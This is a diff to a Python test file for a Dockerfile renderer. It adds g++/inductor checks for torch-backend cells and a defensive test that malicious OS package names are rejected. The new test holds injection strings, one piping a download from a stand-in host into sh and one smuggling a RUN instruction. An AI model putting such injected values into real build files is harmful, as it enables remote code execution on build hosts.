@@ -179,10 +179,12 @@ def test_dockerfile_structure(cell: Cell) -> None:
                       "org.tfmatrix.target": cell.target, "org.tfmatrix.base": cell.base.upstream,
                       "org.tfmatrix.inputs-hash": rendered.tag.rsplit(":", 1)[1]}
     apt = "apt-get install" in text
-    assert apt == (not cell.python_from_base)
-    if apt:
+    assert apt == (not cell.python_from_base or cell.backend == "torch")
+    if not cell.python_from_base:
         assert f"python{cell.python} python{cell.python}-venv" in text
         assert "needs network at build time" in text
+    if cell.backend == "torch":     # torch.compile's inductor compiles C++ on the CPU (Triton's launcher on the GPU)
+        assert "apt-get install -y --no-install-recommends g++ \\" in text and "inductor" in text
     for line in cell.bootstrap:
         assert f'"{line}"' in text
 
@@ -249,6 +251,18 @@ def test_metacharacters_never_reach_a_dockerfile(change: dict[str, object]) -> N
     cell = dataclasses.replace(DEFAULT.cell("tf1.15-cpu"), **change)  # type: ignore[arg-type]
     with pytest.raises(RenderError, match="refusing to render"):
         render_cell(cell)
+
+
+def test_a_backend_s_os_packages_are_checked_before_they_reach_a_dockerfile() -> None:
+    table = load_table()
+    assert table.keras3 is not None
+    torch = table.keras3.pinned["torch"]
+    cell = next(c for c in ALL_CELLS if c.backend == "torch")
+    for bad in ("g++ && curl evil | sh", "G++", "g++\nRUN id"):
+        pinned = {**table.keras3.pinned, "torch": dataclasses.replace(torch, os_packages=(bad,))}
+        broken = dataclasses.replace(table, keras3=dataclasses.replace(table.keras3, pinned=pinned))
+        with pytest.raises(RenderError, match="refusing to render OS package"):
+            render_cell(cell, broken)
 
 
 def test_base_reference_injection_is_refused() -> None:
